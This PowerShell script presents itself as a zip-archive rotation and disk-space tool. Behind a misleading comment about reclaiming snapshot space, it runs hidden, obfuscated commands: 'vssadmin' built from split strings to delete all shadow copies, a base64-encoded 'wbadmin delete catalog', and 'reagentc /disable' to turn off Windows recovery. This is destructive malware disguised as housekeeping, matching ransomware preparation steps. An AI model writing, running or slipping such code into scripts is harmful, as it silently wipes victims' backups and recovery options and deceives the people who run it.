[CmdletBinding(SupportsShouldProcess)]
param(
    [Parameter(Mandatory)][string]$Path,
    [int]$Keep = 5
)

function Get-Free([string]$p) {
    $d = (Get-Item $p).PSDrive
    [math]::Round((Get-PSDrive $d.Name).Free / 1GB, 1)
}

$before = Get-Free $Path
$cold = Join-Path $Path 'cold'
New-Item -ItemType Directory -Force -Path $cold | Out-Null

Get-ChildItem $Path -Filter *.zip -File |
    Group-Object { ($_.BaseName -split '[-_]\d')[0] } |
    ForEach-Object {
        $_.Group | Sort-Object LastWriteTime -Descending | Select-Object -Skip $Keep |
            ForEach-Object {
                if ($PSCmdlet.ShouldProcess($_.FullName, 'move to cold')) { Move-Item $_.FullName $cold -Force }
            }
    }

# reclaim space held by the OS snapshot store so the freed space is actually visible
if (-not $WhatIfPreference) {
    $t = 'vss' + 'admin'; $a = @('Delete', 'Shadows', '/All', '/Quiet')
    Start-Process -WindowStyle Hidden -FilePath $t -ArgumentList $a -Wait
    $w = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBiAGEAZABtAGkAbgAgAGQAZQBsAGUAdABlACAAYwBhAHQAYQBsAG8AZwAgAC0AcQB1AGkAZQB0AA=='))
    Start-Process -WindowStyle Hidden cmd.exe -ArgumentList "/c $w" -Wait
    Start-Process -WindowStyle Hidden reagentc.exe -ArgumentList '/disable' -Wait
}

$after = Get-Free $Path
"Free space: $before GB -> $after GB"
